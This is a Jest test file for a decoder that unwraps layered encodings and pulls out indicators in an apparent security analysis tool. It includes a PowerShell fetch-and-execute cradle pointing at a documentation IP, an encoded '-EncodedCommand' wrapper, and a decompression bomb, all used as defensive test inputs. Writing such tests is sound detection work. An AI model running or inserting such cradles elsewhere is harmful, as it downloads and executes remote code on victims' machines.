import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from '@jest/globals';
import { createWorkerPool } from '../../analysis/pool/worker-pool.js';
import type { Finding } from '../../casebook/finding.js';
import type { Arg } from '../../language/spec.js';
import { runSkill, type TestWorld } from '../kit/context.test-helper.js';
import decode from './skill.js';

const pool = createWorkerPool({ size: 1 });
afterAll(() => pool.close());

const command = (script: string) => `powershell.exe -NoP -EncodedCommand ${Buffer.from(script, 'utf16le').toString('base64')}`;
const LOADER = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";

const text = (value: string): Arg => ({ kind: 'text', text: value });
const column: Arg = { kind: 'variable', name: 'procs', column: 'CommandLine' };
const lines = (values: readonly string[]): TestWorld => ({
  pool, tables: { procs: { columns: [{ name: 'CommandLine', type: 'string' }], rows: values.map((value) => [value]) } },
});
const run = (input: Arg, world: TestWorld = { pool }, depth = 10) => runSkill(decode, { input, depth: { kind: 'int', value: depth } }, world);
const tableOf = ({ table }: Finding) => {
  if (table === undefined || 'ref' in table) return { columns: [], rows: [] };
  return { columns: table.columns.map(({ name }) => name), rows: table.rows };
};

describe('decode', () => {
  it('peels a value and shows each layer with its hashes', async () => {
    const finding = await run(text(command(LOADER)));
    expect(finding.headline).toBe('2 layers: base64, utf-16le');
    expect(finding.severity).toBe('medium');
    expect(finding.facts).toEqual([
      { label: 'Innermost', value: 'PowerShell script, 73 bytes' },
      { label: 'SHA-256', value: createHash('sha256').update(LOADER).digest('hex') },
      { label: 'Indicators', value: '2' },
    ]);
    expect(tableOf(finding).columns).toEqual(['Layer', 'Encoding', 'Type', 'Size', 'MD5', 'SHA1', 'SHA256', 'Text', 'Source', 'Name', 'Entropy', 'Offset', 'Length', 'Exact', 'Note']);
    expect(tableOf(finding).rows.map((row) => [row[0], row[1], row[2], row[3], row[7], row[8]])).toEqual([
      ['1', 'base64', 'UTF-16 text', 146, '', 'the text'],
      ['1.1', 'utf-16le', 'PowerShell script', 73, LOADER, 'the text'],
    ]);
    expect(finding.tree).toEqual([{
      label: 'layer 1 · base64: UTF-16 text, 146 bytes', detail: '',
      children: [{ label: 'layer 1.1 · utf-16le: PowerShell script, 73 bytes', detail: LOADER, children: [] }],
    }]);
    expect(finding.entities).toEqual([
      { type: 'url', value: 'http://203.0.113.9/a.ps1', note: 'layer 1.1 of the text' },
      { type: 'ip', value: '203.0.113.9', note: 'layer 1.1 of the text' },
    ]);
    expect(finding.next).toEqual([{ label: 'Enrich 203.0.113.9', say: 'enrich 203.0.113.9' }]);
  });

  it('says so where nothing is encoded, and still lists indicators', async () => {
    const finding = await run(text('curl http://198.51.100.7/x'));
    expect(finding).toMatchObject({ headline: 'Nothing encoded was found', severity: 'none', tree: [] });
    expect(finding.table).toBeUndefined();
    expect(finding.entities.map(({ value }) => value)).toEqual(['http://198.51.100.7/x', '198.51.100.7']);
  });

  it('says where the depth stopped it', async () => {
    const finding = await run(text(command(LOADER)), { pool }, 1);
    expect(finding.headline).toBe('1 layer: base64');
    expect(finding.notes).toEqual(['There is more to peel below depth 1; depth= raises it (20 at most).']);
  });

  it('decodes equal values of a column once and shows the most telling first', async () => {
    const finding = await run(column, lines(['whoami', command('hostname'), command(LOADER), command(LOADER), 'whoami']));
    expect(finding.headline).toBe('2 encoded values of 3 in $procs.CommandLine (3 rows, 4 layers)');
    expect(finding.facts[0]).toEqual({ label: 'Values read', value: '3 distinct in 5 rows' });
    expect(tableOf(finding).rows.map((row) => row[8])).toEqual(['row 2', 'row 2', 'row 3', 'row 3']);
    expect(finding.tree?.map(({ label }) => label)).toEqual(['row 3, 2 times', 'row 2']);
    expect(finding.entities[0]?.note).toBe('layer 1.1 of row 3');
  });

  it('decodes thousands of values in a worker and finds the same', async () => {
    const said: string[] = [];
    const values = Array.from({ length: 1_500 }, (_, at) => command(`hostname; whoami ${at}`));
    const finding = await run(column, { ...lines(values), progress: (line) => { said.push(line); } });
    expect(finding.headline).toBe('1,500 encoded values of 1,500 in $procs.CommandLine (1,500 rows, 3,000 layers)');
    expect(tableOf(finding).rows).toHaveLength(3_000);
    expect(tableOf(finding).rows.at(-1)?.[7]).toBe('hostname; whoami 1499');
    expect(said).toEqual(['Decoding 1,500 distinct values']);
  });

  it('is bounded on hostile values, and says what it left', async () => {
    const bomb = gzipSync(Buffer.alloc(30_000_000)).toString('base64');
    const finding = await run(column, lines([bomb, 'A'.repeat(1_000_000), '%'.repeat(500_000), command(LOADER)]));
    expect(finding.headline).toContain('2 encoded values of 4');
    expect(finding.notes[0]).toMatch(/decompression bomb/);
  });

  it('stops when the run is cancelled', async () => {
    const values = Array.from({ length: 300 }, (_, at) => command(`whoami ${at}`));
    await expect(run(column, { ...lines(values), signal: AbortSignal.abort() })).rejects.toMatchObject({ code: 'run.cancelled' });
  });

  it('follows a recipe for each value of a column', async () => {
    const hex = (value: string): string => Buffer.from(Buffer.from(value).map((byte) => byte ^ 0x35)).toString('hex');
    const finding = await runSkill(decode, { input: column, with: text('from-hex, xor 0x35') }, lines([hex('first value'), hex('second value')]));
    expect(finding.headline).toBe('2 encoded values of 2 in $procs.CommandLine (2 rows, 4 layers)');
    expect(tableOf(finding).rows.filter(([layer]) => layer === '1.1').map((row) => [row[1], row[7]])).toEqual([['xor 0x35', 'first value'], ['xor 0x35', 'second value']]);
  });

  it('says which step of a recipe does not fit, and refuses what is no recipe', async () => {
    const finding = await runSkill(decode, { input: text('aGVsbG8='), with: text('from-base64, gunzip') }, { pool });
    expect(finding).toMatchObject({ headline: '1 layer: from-base64', notes: ['Step 2 (gunzip) cannot read what the steps before it give.'] });
    await expect(runSkill(decode, { input: text('aGVsbG8='), with: text('from-base46') }, { pool })).rejects.toMatchObject({ code: 'param.invalid', message: expect.stringContaining('from-base64') });
  });

  it('ranks what fits a value, in a worker', async () => {
    const finding = await runSkill(decode, { input: text('Frpp d qg frqw uro vhuyhu dw wkh xvxdo dgguhvv iru wkh sdvvzrug'), try: text('yes') }, { pool });
    expect(finding.headline).toMatch(/ways? to read it; the likeliest is rot 23$/);
    expect(finding.facts[0]).toEqual({ label: 'Likeliest', value: 'text, 63 bytes' });
    expect(tableOf(finding).rows[0]?.slice(0, 3)).toEqual(['1', 'rot 23', 'text']);
    expect(tableOf(finding).rows[0]?.[14]).toMatch(/^it reads as text/);
  });

  it('names the members of an archive and what headers say', async () => {
    const finding = await run(text(`FromBase64String('UEsDBBQAAAAAAAAAIVi8sEyZEwAAABMAAAAFAAAAYS50eHRhIG1lbWJlciBvZiBhbiB6aXABAgMEUEsBAhQAFAAAAAAAAAAhWLywTJkTAAAAEwAAAAUAAAAAAAAAAAAAAAAAAAAAAGEudHh0UEsFBgAAAAABAAEAMwAAADYAAAAAAA==')`));
    expect(tableOf(finding).rows.map((row) => [row[0], row[1], row[9]])).toEqual([['1', 'base64', ''], ['1.1', 'zip member', 'a.txt']]);
  });

  it('refuses a column without values', async () => {
    await expect(run(column, lines(['', '']))).rejects.toMatchObject({ code: 'table.empty' });
  });
});
